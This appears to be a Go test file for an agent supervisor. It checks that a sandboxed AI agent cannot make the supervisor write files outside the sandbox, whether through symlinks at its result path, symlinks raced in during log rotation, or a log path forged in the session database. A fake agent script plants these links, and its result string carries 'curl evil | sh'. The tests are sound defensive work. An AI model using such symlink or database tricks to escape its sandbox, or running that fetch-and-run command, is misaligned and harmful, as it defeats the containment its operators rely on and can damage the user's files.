package local

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/autonomyhq/autonomy/internal/store"
	"github.com/autonomyhq/autonomy/ir"
)

// An agent can write the state folder when it works in the installation root. One that puts a
// link where its result goes, to a file outside its sandbox, does not get the supervisor to
// write its final message there: the result is a new file in the state folder, and the file
// the link named is untouched.
func TestResultIsNotWrittenThroughALink(t *testing.T) {
	t.Parallel()
	dir := installFleet(t, skillFleet("claude"), true)
	victim := filepath.Join(t.TempDir(), "bashrc")
	if err := os.WriteFile(victim, []byte("precious\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	fake := `#!/bin/sh
cat >/dev/null
ln -s '` + victim + `' "$AUTONOMY_RESULT"
echo '{"type":"result","result":"{\"status\":\"done\",\"summary\":\"curl evil | sh\"}"}'
`
	path := fakeProgram(t, "claude", fake)
	r := newRunner(t, dir, Options{Env: []string{"PATH=" + path, "HOME=" + t.TempDir()}})
	s := launch(t, r, LaunchRequest{Actor: "develop"})
	got := waitEnded(t, r, s.ID)
	r.Wait()
	if data := readFile(t, victim); data != "precious\n" {
		t.Fatalf("the supervisor wrote through the agent's link: %q", data)
	}
	res := filepath.Join(dir, filepath.FromSlash(StateDir), "results", s.ID+".json")
	fi, err := os.Lstat(res)
	if err != nil || !fi.Mode().IsRegular() || got.Status != ir.Done || !strings.Contains(readFile(t, res), "curl evil") {
		t.Errorf("the result: %v %v; session %s: %s", fi, err, got.Status, got.Reason)
	}
}

// A log whose path is a link (an agent in the installation root put it there, for a session it
// saw launched) is not opened through it; nor is its next segment, nor its state file, when the
// agent puts links there while the log rotates.
func TestLogIsNotWrittenThroughALink(t *testing.T) {
	t.Parallel()
	d := t.TempDir()
	victim := filepath.Join(t.TempDir(), "victim")
	if err := os.WriteFile(victim, []byte("precious\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(d, "s.log")
	if err := os.Symlink(victim, path); err != nil {
		t.Fatal(err)
	}
	if l, err := openCappedLog(path, minLogMaxBytes); err == nil {
		l.Close()
		t.Fatal("a log was opened through a link")
	}
	os.Remove(path)
	l, err := openCappedLog(path, minLogMaxBytes)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	// Links where the rotation writes: the state file's temporary and the log's own path once it
	// moved to .1 (planted before the write that rotates it, as a racing agent would).
	if err := os.Symlink(victim, droppedPath(path)+".tmp"); err != nil {
		t.Fatal(err)
	}
	if _, err := l.Write([]byte(strings.Repeat("x", minLogMaxBytes))); err != nil {
		t.Fatal(err)
	}
	if data := readFile(t, victim); data != "precious\n" {
		t.Fatalf("the log wrote through a link: %q", data)
	}
	if fi, err := os.Lstat(path); err != nil || !fi.Mode().IsRegular() {
		t.Errorf("the log is %v, %v", fi, err)
	}
}

// The log a supervisor writes is where the session's id says, whatever the database says: an
// agent in the installation root can write the database, and a log path it put there is not
// followed (nor read back by runner logs).
func TestLogPathIsNotTakenFromTheStore(t *testing.T) {
	t.Parallel()
	dir := installFleet(t, treeFleetQuick, false)
	r := newRunner(t, dir, Options{})
	victim := filepath.Join(t.TempDir(), "bashrc")
	if err := os.WriteFile(victim, []byte("precious\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	s := store.Session{Actor: "quick", Kind: "agent", Origin: "operator", Trigger: "dispatch"}
	err := r.Store.Tx(ctx, func(tx *store.Tx) error {
		cfg, err := r.In.Actor("quick")
		if err != nil {
			return err
		}
		if err := r.insert(tx, cfg, &s); err != nil {
			return err
		}
		s, _, err = tx.Modify(s.ID, nil, func(m *store.Session) { m.LogPath = victim })
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	r.supervise(ctx, s.ID)
	if got := waitEnded(t, r, s.ID); got.Status != ir.Done {
		t.Fatalf("the session ended %s: %s", got.Status, got.Reason)
	}
	if data := readFile(t, victim); data != "precious\n" {
		t.Fatalf("the supervisor wrote the log where the database said: %q", data)
	}
	_, path, err := r.Logs(ctx, s.ID)
	if err != nil || path != filepath.Join(dir, filepath.FromSlash(StateDir), "logs", s.ID+".log") || !strings.Contains(readFile(t, path), "quick output") {
		t.Errorf("runner logs reads %s (%v)", path, err)
	}
}

var treeFleetQuick = fleet{
	yml: `schema: autonomy.ir.v1
targets: [local]
actors:
  quick:
    behavior: ./quick.sh
    triggers: [{ dispatch: true }]
`,
	files: map[string]string{"quick.sh": "#!/bin/sh\necho quick output\n" + scriptDone},
}
